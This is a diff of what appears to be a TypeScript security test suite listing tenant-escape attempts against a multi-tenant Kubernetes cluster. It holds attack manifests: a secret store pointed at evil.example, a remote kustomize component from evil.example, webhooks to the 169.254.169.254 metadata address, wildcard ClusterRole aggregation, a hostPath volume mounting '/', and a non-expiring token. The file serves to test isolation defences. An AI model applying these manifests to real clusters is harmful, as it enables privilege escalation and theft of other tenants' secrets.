@@ -2,7 +2,12 @@
 // Tried twice on a real API server: as the identity that applies the tenants repository (a forged
 // commit) and as the tenant's own ServiceAccount (the member's manifests).
 
-export type Manifest = { apiVersion: string; kind: string; metadata: Meta; [field: string]: unknown };
+export type Manifest = {
+  apiVersion: string;
+  kind: string;
+  metadata: Meta;
+  [field: string]: unknown;
+};
 interface Meta {
   name: string;
   namespace?: string;
@@ -188,9 +193,14 @@ export const escapes: Escape[] = [
         persistentvolumeclaims: '999',
       }),
       quota({ pods: '5' }),
-      network('default-deny', { podSelector: { matchLabels: { no: 'pod' } }, policyTypes: ['Ingress'] }),
+      network('default-deny', {
+        podSelector: { matchLabels: { no: 'pod' } },
+        policyTypes: ['Ingress'],
+      }),
     ],
     deletes: [
+      namespace(HOME),
+      namespace(NEIGHBOUR),
       quota({}),
       network('default-deny', {}),
       { apiVersion: 'v1', kind: 'LimitRange', metadata: at('tenant') },
@@ -200,7 +210,12 @@ export const escapes: Escape[] = [
     id: 2,
     title: 'Open the network again, or mint a token that does not expire',
     objects: [
-      network('open', { podSelector: {}, ingress: [{}], egress: [{}], policyTypes: ['Ingress', 'Egress'] }),
+      network('open', {
+        podSelector: {},
+        ingress: [{}],
+        egress: [{}],
+        policyTypes: ['Ingress', 'Egress'],
+      }),
       network('scan', {
         podSelector: {},
         policyTypes: ['Egress'],
@@ -214,7 +229,10 @@ export const escapes: Escape[] = [
       {
         apiVersion: 'v1',
         kind: 'Secret',
-        metadata: { ...at('forever'), annotations: { 'kubernetes.io/service-account.name': 'tenant' } },
+        metadata: {
+          ...at('forever'),
+          annotations: { 'kubernetes.io/service-account.name': 'tenant' },
+        },
         type: 'kubernetes.io/service-account-token',
       },
     ],
@@ -290,17 +308,38 @@ export const escapes: Escape[] = [
     id: 9,
     title: 'Drop the impersonation: an empty or missing identity',
     objects: [
-      { ...sync({}), spec: { interval: '10m', prune: true, path: './', sourceRef: { kind: 'GitRepository', name: 'tenant' } } },
+      {
+        ...sync({}),
+        spec: {
+          interval: '10m',
+          prune: true,
+          path: './',
+          sourceRef: { kind: 'GitRepository', name: 'tenant' },
+        },
+      },
       sync({ serviceAccountName: '' }),
       sync({ serviceAccountName: 'kustomize-controller' }),
-      roleBinding('tenant', 'hackspace-tenant', { kind: 'User', name: 'oidc:', apiGroup: 'rbac.authorization.k8s.io' }),
-      roleBinding('tenant', 'hackspace-tenant', { kind: 'Group', name: 'system:authenticated', apiGroup: 'rbac.authorization.k8s.io' }),
+      roleBinding('tenant', 'hackspace-tenant', {
+        kind: 'User',
+        name: 'oidc:',
+        apiGroup: 'rbac.authorization.k8s.io',
+      }),
+      roleBinding('tenant', 'hackspace-tenant', {
+        kind: 'Group',
+        name: 'system:authenticated',
+        apiGroup: 'rbac.authorization.k8s.io',
+      }),
     ],
   },
   {
     id: 10,
     title: 'Reconcile every millisecond',
-    objects: [git({ interval: '1ms' }), sync({ interval: '1ms' }), sync({ retryInterval: '1s' }), sync({ timeout: '9h' })],
+    objects: [
+      git({ interval: '1ms' }),
+      sync({ interval: '1ms' }),
+      sync({ retryInterval: '1s' }),
+      sync({ timeout: '9h' }),
+    ],
   },
   {
     id: 11,
@@ -323,12 +362,17 @@ export const escapes: Escape[] = [
       store('openbao', vault({ server: 'https://evil.example:8200' })),
       store('openbao', vault({ namespace: 'root' })),
       store('openbao', vault({}, { role: 'admin' })),
-      store('openbao', vault({}, {
-        kubernetesServiceAccountToken: {
-          serviceAccountRef: { name: 'tenant', namespace: NEIGHBOUR, audiences: ['openbao'] },
-        },
-      })),
-      externalSecret({ data: [{ secretKey: 'x', remoteRef: { key: `tenants/${NEIGHBOUR}/calendar` } }] }),
+      store(
+        'openbao',
+        vault({}, {
+          kubernetesServiceAccountToken: {
+            serviceAccountRef: { name: 'tenant', namespace: NEIGHBOUR, audiences: ['openbao'] },
+          },
+        }),
+      ),
+      externalSecret({
+        data: [{ secretKey: 'x', remoteRef: { key: `tenants/${NEIGHBOUR}/calendar` } }],
+      }),
       externalSecret({ secretStoreRef: { name: 'all', kind: 'ClusterSecretStore' } }),
     ],
   },
@@ -336,9 +380,11 @@ export const escapes: Escape[] = [
     id: 13,
     title: 'Let kustomize fetch a remote file (--no-remote-bases does not stop it)',
     objects: [
-      git({ ignore: null }),
+      git({ ignore: undefined }),
       git({ ignore: '!kustomization.yaml' }),
-      git({ ignore: 'kustomization.yaml\nkustomization.yml\nKustomization\n!kustomization.yaml\n' }),
+      git({
+        ignore: 'kustomization.yaml\nkustomization.yml\nKustomization\n!kustomization.yaml\n',
+      }),
       sync({ components: ['https://evil.example/component'] }),
     ],
   },
@@ -357,19 +403,42 @@ export const escapes: Escape[] = [
       service({ type: 'LoadBalancer' }),
       route({ hostnames: ['ada.members.hackspace.example'] }),
       route({ hostnames: ['evilmallory.members.hackspace.example'] }),
-      route({ hostnames: null }),
+      route({ hostnames: undefined }),
       route({ rules: [{ backendRefs: [{ name: 'web', port: 80, namespace: NEIGHBOUR }] }] }),
-      { apiVersion: 'gateway.networking.k8s.io/v1', kind: 'Gateway', metadata: at('own'), spec: { gatewayClassName: 'traefik', listeners: [{ name: 'x', port: 443, protocol: 'HTTPS' }] } },
+      {
+        apiVersion: 'gateway.networking.k8s.io/v1',
+        kind: 'Gateway',
+        metadata: at('own'),
+        spec: {
+          gatewayClassName: 'traefik',
+          listeners: [{ name: 'x', port: 443, protocol: 'HTTPS' }],
+        },
+      },
     ],
   },
   {
     id: 16,
     title: 'Let the External Secrets controller call an address, or make any object',
     objects: [
-      store('openbao', { webhook: { url: 'http://169.254.169.254/latest', result: { jsonPath: '$' } } }),
-      store('openbao', { kubernetes: { remoteNamespace: 'flux-system', auth: { serviceAccount: { name: 'tenant' } } } }),
+      store('openbao', {
+        webhook: { url: 'http://169.254.169.254/latest', result: { jsonPath: '$' } },
+      }),
+      store('openbao', {
+        kubernetes: {
+          remoteNamespace: 'flux-system',
+          auth: { serviceAccount: { name: 'tenant' } },
+        },
+      }),
       externalSecret({
-        dataFrom: [{ sourceRef: { generatorRef: { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'Webhook', name: 'x' } } }],
+        dataFrom: [{
+          sourceRef: {
+            generatorRef: {
+              apiVersion: 'generators.external-secrets.io/v1alpha1',
+              kind: 'Webhook',
+              name: 'x',
+            },
+          },
+        }],
       }),
       externalSecret({ dataFrom: [{ find: { name: { regexp: '.*' } } }] }),
       {
@@ -378,7 +447,12 @@ export const escapes: Escape[] = [
         metadata: at('x'),
         spec: { url: 'http://169.254.169.254/', result: { jsonPath: '$' } },
       },
-      { apiVersion: 'external-secrets.io/v1alpha1', kind: 'PushSecret', metadata: at('x'), spec: { secretStoreRefs: [{ name: 'openbao' }], selector: { secret: { name: 'x' } } } },
+      {
+        apiVersion: 'external-secrets.io/v1alpha1',
+        kind: 'PushSecret',
+        metadata: at('x'),
+        spec: { secretStoreRefs: [{ name: 'openbao' }], selector: { secret: { name: 'x' } } },
+      },
     ],
   },
   {
@@ -417,7 +491,10 @@ export const escapes: Escape[] = [
         metadata: at('probe'),
         spec: {
           selector: { matchLabels: { app: 'x' } },
-          template: { metadata: { labels: { app: 'x' } }, spec: { containers: [{ name: 'x', image: 'x' }] } },
+          template: {
+            metadata: { labels: { app: 'x' } },
+            spec: { containers: [{ name: 'x', image: 'x' }] },
+          },
         },
       },
       {
@@ -447,7 +524,10 @@ export const escapes: Escape[] = [
       {
         apiVersion: 'rbac.authorization.k8s.io/v1',
         kind: 'ClusterRole',
-        metadata: { name: 'more', labels: { ...labels(ATTACKER), 'rbac.authorization.k8s.io/aggregate-to-admin': 'true' } },
+        metadata: {
+          name: 'more',
+          labels: { ...labels(ATTACKER), 'rbac.authorization.k8s.io/aggregate-to-admin': 'true' },
+        },
         rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
       },
       {
@@ -502,7 +582,10 @@ export const escapes: Escape[] = [
         apiVersion: 'helm.toolkit.fluxcd.io/v2',
         kind: 'HelmRelease',
         metadata: at('x'),
-        spec: { interval: '10m', chart: { spec: { chart: 'x', sourceRef: { kind: 'HelmRepository', name: 'charts' } } } },
+        spec: {
+          interval: '10m',
+          chart: { spec: { chart: 'x', sourceRef: { kind: 'HelmRepository', name: 'charts' } } },
+        },
       },
     ],
   },
@@ -510,7 +593,10 @@ export const escapes: Escape[] = [
     id: 22,
     title: 'Stay for ever, or drag others along: finalizers, owner references, borrowed labels',
     objects: [
-      { ...namespace(HOME), metadata: { ...namespace(HOME).metadata, finalizers: ['mallory.example/stay'] } },
+      {
+        ...namespace(HOME),
+        metadata: { ...namespace(HOME).metadata, finalizers: ['mallory.example/stay'] },
+      },
       namespace(HOME, { 'pod-security.kubernetes.io/enforce-version': 'v1.19' }),
       namespace(HOME, { 'hackspace.dev/trusted': 'yes' }),
       {
@@ -518,7 +604,12 @@ export const escapes: Escape[] = [
         kind: 'ServiceAccount',
         metadata: {
           ...at('tenant'),
-          ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '00000000-0000-0000-0000-000000000000' }],
+          ownerReferences: [{
+            apiVersion: 'v1',
+            kind: 'ConfigMap',
+            name: 'x',
+            uid: '00000000-0000-0000-0000-000000000000',
+          }],
         },
       },
     ],
@@ -531,19 +622,31 @@ export const escapes: Escape[] = [
         apiVersion: 'v1',
         kind: 'PersistentVolumeClaim',
         metadata: at('probe'),
-        spec: { accessModes: ['ReadWriteOnce'], storageClassName: 'local-etcd', resources: { requests: { storage: '1Gi' } } },
+        spec: {
+          accessModes: ['ReadWriteOnce'],
+          storageClassName: 'local-etcd',
+          resources: { requests: { storage: '1Gi' } },
+        },
       },
       {
         apiVersion: 'v1',
         kind: 'PersistentVolumeClaim',
         metadata: at('probe'),
-        spec: { accessModes: ['ReadWriteOnce'], volumeName: 'pvc-of-ada', resources: { requests: { storage: '1Gi' } } },
+        spec: {
+          accessModes: ['ReadWriteOnce'],
+          volumeName: 'pvc-of-ada',
+          resources: { requests: { storage: '1Gi' } },
+        },
       },
       {
         apiVersion: 'v1',
         kind: 'PersistentVolume',
         metadata: { name: 'node-root', labels: labels(ATTACKER) },
-        spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
+        spec: {
+          capacity: { storage: '1Gi' },
+          accessModes: ['ReadWriteOnce'],
+          hostPath: { path: '/' },
+        },
       },
     ],
   },
